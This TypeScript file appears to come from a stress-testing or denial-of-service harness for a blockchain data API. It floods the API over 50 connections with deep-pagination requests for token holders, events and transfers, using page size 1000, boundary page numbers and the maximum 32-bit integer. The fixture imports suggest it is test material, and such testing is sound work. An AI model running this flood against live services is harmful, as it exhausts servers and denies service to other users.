import { type Attack, flood } from "../attack.ts";
import { chain, hubSender, hubToken, lastBlock, transferTopic } from "../fixture.ts";

const connections = 50;
/** For both kinds of lists, the deepest pages that are served and the first ones that are not; and the largest page number. */
const pageNumbers = [99, 100, 101, 10_000, 10_001, 2_147_483_647] as const;

/** Requests pages that follow as many rows as possible. */
export const requestDeepPages = (attack: Attack): Promise<void> =>
  flood(attack, connections, (number) => {
    const page = `page-size=1000&page-number=${pageNumbers[number % pageNumbers.length]}`;
    const paths = [
      `tokens/${hubToken}/token_holders_v2/?${page}`,
      `tokens/${hubToken}/token_holders_v2/?${page}&block-height=${lastBlock - (number % 500)}`,
      `events/address/${hubToken}/?starting-block=0&ending-block=${lastBlock - (number % 50)}&${page}`,
      `events/topics/${transferTopic}/?starting-block=0&ending-block=${lastBlock - (number % 50)}&${page}`,
      `address/${hubSender}/transfers_v2/?contract-address=${hubToken}&${page}`,
      `address/${hubSender}/transactions_v3/page/${pageNumbers[number % pageNumbers.length]}/`,
    ];
    return `/v1/${chain.name}/${paths[Math.floor(number / pageNumbers.length) % paths.length]}`;
  });
